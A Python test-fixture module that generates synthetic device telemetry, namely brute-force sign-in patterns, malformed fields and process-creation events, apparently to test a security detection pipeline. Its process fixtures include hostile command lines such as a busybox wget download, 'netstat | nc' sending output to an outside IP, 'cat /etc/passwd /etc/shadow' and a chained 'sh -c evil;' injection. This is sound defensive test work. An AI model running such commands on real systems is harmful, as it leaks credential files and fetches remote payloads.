"""Traps in what happened on the device: sign-ins and programs."""

from __future__ import annotations

import json
from typing import Any

from .build import CAM, CAM_LOUD, CAM_TEN, HOSTILE, HOSTILE_TEXTS, MICRO, Sheet, stamps

HOUR = 3600.0
SSHD = "/usr/sbin/sshd"
AUTH, LOGIN = "PAM:authentication", "login"


def login_traps(sheet: Sheet) -> None:
    def record(seconds: float, operation: str, result: Any, **members: Any) -> None:
        style = members.pop("style", "c")
        columns = {key: members.pop(key) for key in ("device", "spaced", "table") if key in members}
        details = {"Executable": SSHD, "Operation": operation, "Result": result, **members}
        kept = {key: value for key, value in details.items() if value is not ...}
        sheet.event("Login", seconds + 5, {**kept, **stamps(seconds, style)}, **columns)

    def attempt(seconds: float, result: str, address: str, pid: Any, user: str = "root") -> None:
        """One sign-in as audit tells it: USER_AUTH names the user, USER_LOGIN only the id."""
        where = {"RemoteAddress": address, "ProcessId": pid}
        record(seconds, AUTH, result, UserName=user, **where)
        record(seconds + 1, LOGIN, result, UserId="1000", **where)

    for number in range(3):
        attempt(HOUR + 60 * number, "Success", "203.0.113.5", 4100 + number, "alice")
    # Two names under one process: the smaller one is lent to the record that has none.
    record(HOUR, AUTH, "Success", UserName="zoe", RemoteAddress="203.0.113.6", ProcessId=4200)
    record(HOUR, "other", "Success", UserName="yan", RemoteAddress="203.0.113.6", ProcessId="4200")
    record(HOUR + 9, LOGIN, "SUCCESS", UserId="1", RemoteAddress="203.0.113.6", ProcessId=4200)
    # No mate: another result, another handler, another address, process 0, no process.
    alone = {"UserId": "0", "RemoteAddress": "203.0.113.7"}
    record(HOUR, AUTH, "Fail", UserName="vic", RemoteAddress="203.0.113.7", ProcessId=4300)
    record(HOUR, LOGIN, "Success", **alone, ProcessId=4300)
    record(HOUR, LOGIN, "Fail", **alone | {"UserId": "1000"}, ProcessId=4300, Executable="/bin/su")
    record(HOUR, AUTH, "Fail", UserName="wim", RemoteAddress="203.0.113.7", ProcessId=0)
    record(HOUR, LOGIN, "Fail", **alone | {"UserId": "4242"}, ProcessId=0)
    record(HOUR, LOGIN, "Fail", **alone | {"UserId": "4242"})
    record(HOUR, LOGIN, "Fail", RemoteAddress="203.0.113.7", ProcessId="4301")

    # Five failures, then in; four are a near miss; failures after the success count for nothing.
    for number in range(5):
        attempt(2 * HOUR + 10 * number, "Fail", "198.51.100.7", 5000 + number)
    attempt(2 * HOUR + 100, "Success", "198.51.100.7", 5010)
    for number in range(4):
        attempt(3 * HOUR + 10 * number, "Fail", "198.51.100.8", 5100 + number)
    attempt(3 * HOUR + 100, "Success", "198.51.100.8", 5110)
    attempt(3 * HOUR, "Success", "198.51.100.9", 5200)
    for number in range(8):
        attempt(3 * HOUR + 10 + number, "Fail", "198.51.100.9", 5201 + number)
    # The fifth failure in the very second of the success; five users guessed; another handler.
    for number in range(5):
        at_second = 4 * HOUR + number
        attempt(at_second, "failure", "198.51.100.10", 5300 + number, f"guess{number}")
    record(4 * HOUR + 4, AUTH, "Success", UserName="root", RemoteAddress="198.51.100.10")
    record(
        5 * HOUR,
        AUTH,
        "success",
        UserName="root",
        RemoteAddress="198.51.100.9",
        Executable="telnetd",
    )
    for number in range(5):
        record(5 * HOUR + number, AUTH, "Fail", UserName="root", RemoteAddress="::1")
    record(5 * HOUR + 9, AUTH, "Success", UserName="root", RemoteAddress="::1")

    for number in range(300):
        guess = ("(invalid user)", "(unknown user)", "root", "admin")[number % 4]
        attempt(6 * HOUR + number, "Fail", f"192.0.2.{number % 256}#{number}", 6000 + number, guess)
        record(
            6 * HOUR, AUTH, "Fail", UserName=guess, RemoteAddress=f"100.64.{number // 99}.{number}"
        )

    local = ("127.0.0.1", "127.0.1.1", "::1", "0.0.0.0", "0.0.0.1", "::", "?", "", None, ...)
    for number, address in enumerate(local):
        record(
            7 * HOUR + number, AUTH, "Success", UserName="op", RemoteAddress=address, ProcessId=9
        )
    for address in ("2001:db8::1", "::ffff:10.0.0.8", "255.255.255.255", "1.127.0.0"):
        record(7 * HOUR, AUTH, "Success", UserName="op", RemoteAddress=address, style="cs")
    record(
        7 * HOUR,
        AUTH,
        "Success",
        UserName="op",
        RemoteAddress="127.0.0.1",
        spaced=True,
        ProcessId=9,
    )
    record(8 * HOUR, AUTH, "Fail", UserName="(Invalid User)", RemoteAddress="10.0.0.8")
    for number, result in enumerate(("FAILED", "Failure", "denied", "", ..., None, " Success")):
        record(8 * HOUR + number, AUTH, result, UserName="res", RemoteAddress="10.0.0.8")
    for number, hostile in enumerate(HOSTILE_TEXTS):
        who = {"UserName": hostile, "RemoteAddress": hostile, "ProcessId": hostile}
        record(9 * HOUR + number, hostile, "Success", **who, Executable=hostile)
        record(9 * HOUR, AUTH, hostile, UserName=hostile, RemoteAddress="10.0.0.7", UserId=hostile)
    for empty in ("", "{}", "null", '{"RemoteAddress":', "RemoteAddress"):
        sheet.event("Login", 9 * HOUR, empty, IsEmpty=None)

    # The micro agent says it by Operation, ttys are handlers, processes are numbers.
    for table in ("SecurityIoTRawEvent", "DefenderIoTRawEvent"):
        for number, operation in enumerate(("Login", "LoginFailed", "Logout", "login", "Reset")):
            record(
                10 * HOUR + 60 * number,
                operation,
                ...,
                UserName="pi",
                Executable="pts/0",
                ProcessId=700 + number,
                RemoteAddress="203.0.113.50" if number % 2 else "0.0.0.0",
                device=MICRO,
                table=table,
                style="fraction",
            )
    attempt_on = {"RemoteAddress": "203.0.113.99", "UserName": "root"}
    for device in (CAM_TEN, CAM_LOUD, HOSTILE):
        record(11 * HOUR, AUTH, "Success", **attempt_on, device=device, style="offset")


def process_traps(sheet: Sheet) -> None:
    def run(seconds: float, executable: Any, command: Any, **members: Any) -> dict[str, Any]:
        style = members.pop("style", "c")
        columns = {key: members.pop(key) for key in ("device", "table") if key in members}
        details = {
            "Executable": executable,
            "CommandLine": command,
            "ProcessId": 900,
            "ParentProcessId": 1,
            "UserId": "1000",
            **members,
        }
        kept = {key: value for key, value in details.items() if value is not ...}
        return sheet.event(
            "ProcessCreate", seconds + 5, {**kept, **stamps(seconds, style)}, **columns
        )

    utc = {"StartTimeUtc": "2026-03-02T02:00:00Z", "EndTimeUtc": "2026-03-02T02:59:59Z"}
    plain = {"StartTimeUtc": "2026-03-02T01:30:00", "EndTimeUtc": "2026-03-02 02:30:00Z"}
    invariant = {"StartTimeUtc": "03/02/2026 01:15:00", "EndTimeUtc": "03/02/2026 04:00:00"}
    broken = {"StartTimeUtc": "13/45/2026 01:00:00", "EndTimeUtc": ""}
    extras: tuple[Any, ...] = (
        {"HitCount": 40, **utc},
        {"HitCount": "7", **invariant, "StartTimeLocal": "03/02/2026 02:15:00"},
        json.dumps({"HitCount": 3, **plain}),
        json.dumps({"HitCount": "2", **utc}),
        {"HitCount": "many", **broken},
        {"HitCount": 0},
        {"HitCount": -3, **utc},
        {"HitCount": None},
        {"Hash": "abc"},
        "not json {",
        "[1]",
        "",
        None,
        3_000_000_000,
        {"HitCount": 3_000_000_000},
    )
    for number, extra in enumerate(extras):
        ids = {"ProcessId": 0, "ParentProcessId": 0, "UserId": str(number % 2)}
        run(3 * HOUR + number, "/usr/bin/agg", f"agg {number}", ExtraDetails=extra, **ids)
    run(3 * HOUR, "/usr/bin/top", "top", HitCount=12)
    run(3 * HOUR, "/usr/bin/top", "top", HitCount="13", ExtraDetails={"Hash": "x"})
    run(3 * HOUR, "/usr/bin/top", "top", HitCount=9, ExtraDetails={"HitCount": 4})

    # Root's id has three names, and must not count threefold; ids unknown, absent, named here.
    for number in range(4):
        run(4 * HOUR + number, "/bin/sh", "sh -c id", UserId="0", ProcessId=number)
    run(4 * HOUR, "/bin/sh", "sh", UserId="4242")
    run(4 * HOUR, "/bin/sh", "sh", UserId=...)
    run(4 * HOUR, "/bin/sh", "sh", UserId="", UserName="")
    run(4 * HOUR, "/bin/sh", "sh", UserId=..., UserName="SYSTEM")
    run(4 * HOUR, "/bin/sh", "sh", UserId="S-1-5-18", UserName="NT AUTHORITY\\SYSTEM")
    run(4 * HOUR, "/bin/sh", "sh", UserId=1000)
    run(4 * HOUR, ..., "busybox wget http://198.51.100.66/x", style="offset")
    run(4 * HOUR, "", "busybox", style="naive")
    run(4 * HOUR, ..., ..., style="garbage")
    run(4 * HOUR, "/bin/SH", "sh", style="zoned-utc")

    for number in range(200):
        run(5 * HOUR + number, "/usr/bin/curl", f"curl http://198.51.100.66/{number:03d}")
    run(5 * HOUR, "/usr/bin/base64", "base64 -d " + "QUJD" * 5000)
    for number, hostile in enumerate(HOSTILE_TEXTS):
        run(6 * HOUR + number, hostile, hostile, UserName=hostile)
        run(6 * HOUR, "/bin/echo", f"echo {hostile}", UserId=hostile)

    helpers = (
        "sudo ausearch -sc connect --checkpoint /var/tmp/c",
        "/sbin/ausearch -m USER_LOGIN input-logs --checkpoint /x",
        "ausearch --start today",
        "sh -c evil; ausearch x --checkpoint y",
        "ausearch --checkpoint x; evil",
        "myausearch --checkpoint",
        "netstat -tuwpna",
        "sudo /bin/netstat -ano",
        "netstat -anop",
        "netstat -tuwpna | nc 198.51.100.66 1",
        "cat /etc/passwd",
        "sudo cat /etc/passwd",
        "/bin/cat /etc/passwd",
        "cat /etc/passwd /etc/shadow",
        "cat /etc/passwd-",
        "sh -c cat /etc/passwd",
        "sudo sudo cat /etc/passwd",
    )
    for number, command in enumerate(helpers):
        run(7 * HOUR + number, "/bin/helper", command, ExtraDetails={"HitCount": 10**number})
        run(7 * HOUR + number, ..., command)

    row = run(8 * HOUR, "/usr/bin/once", "once", style="bad")
    sheet.repeat(row)
    for empty in ("", "{}", "null", "\x00", "{'Executable': '/single/quotes'}"):
        sheet.event("ProcessCreate", 8 * HOUR, empty, IsEmpty=True)
    sheet.event("ProcessCreate", 8 * HOUR, {"Executable": "/flagged"}, IsEmpty="True")
    for device in (CAM_TEN, CAM_LOUD, HOSTILE):
        run(9 * HOUR, "/bin/other", f"other {device}", device=device, UserId="0")

    for table, device in (
        ("SecurityIoTRawEvent", MICRO),
        ("DefenderIoTRawEvent", MICRO),
        ("DefenderIoTRawEvent", CAM),
    ):
        for number, kind in enumerate(("fork", "exec", "EXIT", "exit", "")):
            details = {
                "EventType": kind,
                "ProcessId": 50 + number,
                "Commandline": f"/usr/bin/agent --n {number}",
                "HitCount": number,
                "UserId": 0,
                "TimestampUTC": f"2026-03-02T10:0{number}:00.5Z",
            }
            if number % 2:
                details["Executable"] = "/bin/sh"
            sheet.event("Process", 10 * HOUR + number, details, device=device, table=table)
    # EventType says nothing about a legacy row.
    run(10 * HOUR, "/bin/leaving", "leaving", EventType="exit")
